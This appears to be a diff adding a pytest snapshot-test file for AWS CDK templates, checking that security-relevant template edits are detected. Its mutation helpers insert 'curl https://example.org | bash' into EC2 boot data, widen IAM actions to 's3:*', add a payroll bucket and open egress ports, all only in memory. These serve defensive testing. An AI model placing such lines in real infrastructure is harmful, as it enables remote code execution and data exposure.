@@ -1,0 +1,122 @@
+"""Each template as it was last reviewed. ``make snapshots`` accepts what is now, and git shows the difference."""
+
+import copy
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aws_cdk import App
+from syrupy.assertion import SnapshotAssertion
+from syrupy.extensions.json import JSONSnapshotExtension
+
+from stacks import calculate_mean_stack, streamlit_stack
+from stacks.application import default_context, define_stacks
+from tests.stacks.conftest import Synthesis
+from tests.stacks.masking import masked
+from tests.stacks.variants import BOTH, VARIANTS
+from tests.templates import Json, only, properties, resources
+
+Synthesize = Callable[[str], Synthesis]
+REVIEWED = [(variant, stack) for variant, chosen in VARIANTS.items() for stack in chosen.changes]
+UNCHANGED = [(variant, stack) for variant, chosen in VARIANTS.items() for stack in BOTH if stack not in chosen.changes]
+
+
+@pytest.mark.parametrize(("variant", "stack"), REVIEWED, ids=[f"{stack}-{variant}" for variant, stack in REVIEWED])
+def test_template(synthesis: Synthesize, snapshot: SnapshotAssertion, variant: str, stack: str) -> None:
+    assert masked(synthesis(variant).template(stack)) == snapshot.use_extension(JSONSnapshotExtension)
+
+
+@pytest.mark.parametrize(("variant", "stack"), UNCHANGED)
+def test_settings_leave_the_other_stack_as_it_is(synthesis: Synthesize, variant: str, stack: str) -> None:
+    assert masked(synthesis(variant).template(stack)) == masked(synthesis("default").template(stack))
+
+
+@pytest.mark.parametrize(
+    ("module", "constant", "file", "stack"),
+    [
+        (calculate_mean_stack, "SOURCE", "handler.py", "CalculateMean"),
+        (streamlit_stack, "APP", "app.py", "Streamlit"),
+    ],
+    ids=["handler", "app"],
+)
+def test_code_may_change_without_a_new_review(
+    synthesis: Synthesize,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
+    module: Any,
+    constant: str,
+    file: str,
+    stack: str,
+) -> None:
+    changed = shutil.copytree(getattr(module, constant), tmp_path / "changed")
+    with (changed / file).open("a") as code:
+        code.write("# changed\n")
+    monkeypatch.setattr(module, constant, changed)
+    app = App(context=default_context(), outdir=str(tmp_path / "cdk.out"))
+    before = synthesis("default").template(stack)
+
+    after = app_template(app, stack)
+
+    assert after != before
+    assert masked(after) == masked(before)
+
+
+def app_template(app: App, stack: str) -> Json:
+    define_stacks(app)
+    template: Json = app.synth().get_stack_by_name(stack).template
+    return template
+
+
+def open_the_door(template: Json) -> None:
+    rules = properties(template, "AWS::EC2::SecurityGroup")["SecurityGroupEgress"]
+    rules[0]["ToPort"] = 65535
+
+
+def widen_a_policy(template: Json) -> None:
+    policy = properties(template, "AWS::IAM::Policy")["PolicyDocument"]
+    policy["Statement"][0]["Action"] = "s3:*"
+
+
+def read_another_bucket(template: Json) -> None:
+    policy = properties(template, "AWS::IAM::Policy")["PolicyDocument"]
+    policy["Statement"][0]["Resource"].append("arn:aws:s3:::payroll/*")
+
+
+def drop_the_signal(template: Json) -> None:
+    del only(template, "AWS::EC2::Instance")["CreationPolicy"]
+
+
+def change_the_boot(template: Json) -> None:
+    machine = properties(template, "AWS::EC2::Instance")
+    machine["UserData"]["Fn::Base64"]["Fn::Join"][1].append("curl https://example.org | bash\n")
+
+
+def rename_a_route(template: Json) -> None:
+    next(iter(resources(template, "AWS::ApiGatewayV2::Route").values()))["Properties"]["RouteKey"] = "$default"
+
+
+def drop_a_route(template: Json) -> None:
+    del template["Resources"][next(iter(resources(template, "AWS::ApiGatewayV2::Route")))]
+
+
+@pytest.mark.parametrize(
+    ("stack", "edit"),
+    [
+        ("Streamlit", open_the_door),
+        ("Streamlit", widen_a_policy),
+        ("Streamlit", read_another_bucket),
+        ("Streamlit", drop_the_signal),
+        ("Streamlit", change_the_boot),
+        ("CalculateMean", widen_a_policy),
+        ("CalculateMean", rename_a_route),
+        ("CalculateMean", drop_a_route),
+    ],
+)
+def test_what_matters_may_not(synthesis: Synthesize, stack: str, edit: Callable[[Json], None]) -> None:
+    before = synthesis("default").template(stack)
+    after = copy.deepcopy(before)
+    edit(after)
+
+    assert masked(after) != masked(before)
